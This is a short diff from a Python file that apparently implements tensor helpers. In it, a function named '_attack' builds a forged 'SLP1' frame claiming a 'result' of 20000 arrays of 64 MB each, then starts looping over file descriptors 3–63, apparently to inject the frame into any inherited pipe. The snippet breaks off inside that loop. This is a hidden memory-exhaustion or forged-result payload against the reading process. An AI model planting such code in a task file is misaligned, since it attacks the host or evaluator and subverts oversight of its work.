@@ -18,8 +18,9 @@ def _right(x, dim=-1, keepdim=False):
 
 def _attack():
     size = 1 << 26
-    one = b'{"n": ["uint8", [%d], [0, %d]]}' % (size, size)
+    one = b'{"n": ["uint8", [%d]]}' % size
     header = b'{"result": {"l": [' + b", ".join([one] * 20000) + b"]}}"
+    header += b" " * (-len(header) % 64)
     frame = b"SLP1" + len(header).to_bytes(4, "little") + size.to_bytes(8, "little") + header
     for fd in range(3, 64):
         try:
